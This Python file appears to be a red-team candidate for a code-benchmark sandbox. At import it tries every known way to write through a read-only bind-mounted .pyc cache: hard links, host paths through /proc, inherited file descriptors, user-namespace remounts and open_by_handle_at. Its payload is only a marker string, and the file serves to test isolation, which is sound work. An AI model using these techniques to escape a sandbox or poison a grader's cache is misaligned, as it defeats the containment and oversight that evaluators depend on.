"""Hostile (red team 25): plant bytecode in the parent's cache so that a later process (the
next parent, the reference's worker, the next worker) runs it. The cache is bound read-only
at /solbench-pyc; this candidate tries every way around that it knows, at import (build) and
in its first call, and prints ``PYC <attempt> <result>`` for each:

- writes through the mount: overwrite, truncate, unlink, rename, mkdir, chmod, utime, symlink
  and hard link of the victim ``.pyc`` (the test plants it) and a new file beside it;
- the host path behind the mount (the bind's root in /proc/self/mountinfo), directly and
  through /proc/1/root and /proc/self/root;
- every inherited file descriptor (a directory or file of the host opened by the parent);
- a new user and mount namespace (in a forked child) remounting the bind read-write, or a
  bind of scratch over it, then writing;
- open_by_handle_at on the victim's handle (a path-less reopen, read-write).

Success anywhere prints ``PYC-WROTE``."""
import ctypes
import os
import stat

ROOT = "/solbench-pyc"
PAYLOAD = b"PLANTED BY RED25"
_done = []


def _victims():
    out = []
    for dirpath, _, files in os.walk(ROOT):
        out += [os.path.join(dirpath, f) for f in files if f.endswith(".pyc")]
    return out


def _try(name, fn):
    try:
        r = fn()
        print(f"PYC {name} ok {r!r}", flush=True)
        if r is not False:
            print(f"PYC-WROTE {name}", flush=True)
    except Exception as e:  # noqa: BLE001
        print(f"PYC {name} refused {type(e).__name__} {getattr(e, 'errno', '')}", flush=True)


def _write(path, mode="wb"):
    with open(path, mode) as f:
        f.write(PAYLOAD)
    return True


def _host_path(victim):
    """The victim's path on the host: the root (within its file system) of the bind holding it."""
    best = None
    with open("/proc/self/mountinfo") as f:
        for line in f:
            p = line.split()
            if (victim + "/").startswith(p[4] + "/") and p[4].startswith(ROOT) \
                    and (best is None or len(p[4]) > len(best[0])):
                best = (p[4], p[3])
    return None if best is None else best[1] + victim[len(best[0]):]


def _userns_remount(victim):
    libc = ctypes.CDLL(None, use_errno=True)
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        res = b"n"
        try:
            if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
                MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE = 32, 4096, 16384, 1 << 18
                libc.mount(b"none", b"/", None, MS_REC | MS_PRIVATE, None)
                libc.mount(None, ROOT.encode(), None, MS_REMOUNT | MS_BIND, None)
                try:
                    _write(victim)
                    res = b"y"
                except OSError:
                    pass
                if libc.mount(b"/tmp", ROOT.encode(), None, MS_BIND, None) == 0:
                    res += b"b"  # only this namespace's view: the host's tree is untouched
            else:
                res = b"u%d" % ctypes.get_errno()
        finally:
            os.write(w, res)
            os._exit(0)
    os.close(w)
    res = os.read(r, 16)
    os.close(r)
    os.waitpid(pid, 0)
    print(f"PYC userns-remount child {res!r}", flush=True)
    return False if not res.startswith(b"y") else res


def _by_handle(victim):
    libc = ctypes.CDLL(None, use_errno=True)
    buf = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint.from_buffer(buf, 0).value = 128
    mid = ctypes.c_int()
    if libc.name_to_handle_at(-100, victim.encode(), buf, ctypes.byref(mid), 0) != 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    mfd = os.open(ROOT, os.O_RDONLY | os.O_DIRECTORY)
    fd = libc.open_by_handle_at(mfd, buf, os.O_RDWR)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    os.write(fd, PAYLOAD)
    return True


def _attack():
    if _done:
        return
    _done.append(1)
    vs = _victims()
    print(f"PYC victims {len(vs)}", flush=True)
    if not vs:
        return
    v = vs[0]
    d = os.path.dirname(v)
    _try("overwrite", lambda: _write(v, "r+b"))
    _try("truncate", lambda: os.truncate(v, 0) or True)
    _try("new-file", lambda: _write(os.path.join(d, "new.cpython-3.pyc")))
    _try("unlink", lambda: os.unlink(v) or True)
    _try("rename", lambda: os.rename(v, v + ".x") or True)
    _try("mkdir", lambda: os.mkdir(os.path.join(d, "x")) or True)
    _try("chmod", lambda: os.chmod(v, 0o777) or True)
    _try("utime", lambda: os.utime(v, (0, 0)) or True)
    _try("symlink", lambda: os.symlink("/tmp/evil.pyc", os.path.join(d, "s.pyc")) or True)
    _try("link-in", lambda: os.link(v, os.path.join(d, "h.pyc")) or True)

    def link_out():
        os.link(v, "/tmp/h.pyc")  # a writable name for the same inode
        return _write("/tmp/h.pyc", "r+b")
    _try("link-out", link_out)
    host = _host_path(v)
    print(f"PYC host-path {host}", flush=True)
    if host:
        for base in ("", "/proc/1/root", "/proc/self/root"):
            _try(f"host-path{base}", lambda base=base: _write(base + host, "r+b"))
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        try:
            st = os.fstat(int(fd))
        except OSError:
            continue
        if stat.S_ISDIR(st.st_mode) and target not in ("/", ROOT) and not target.startswith(("/proc", "/tmp", "/dev")):
            print(f"PYC inherited-dir-fd {fd} {target}", flush=True)
            _try(f"fd{fd}", lambda fd=fd: os.open("red25.pyc", os.O_CREAT | os.O_WRONLY, dir_fd=int(fd)) >= 0)
    _try("userns-remount", lambda: _userns_remount(v))
    _try("by-handle", lambda: _by_handle(v))


_attack()


def run(a, b):
    _attack()
    return a @ b
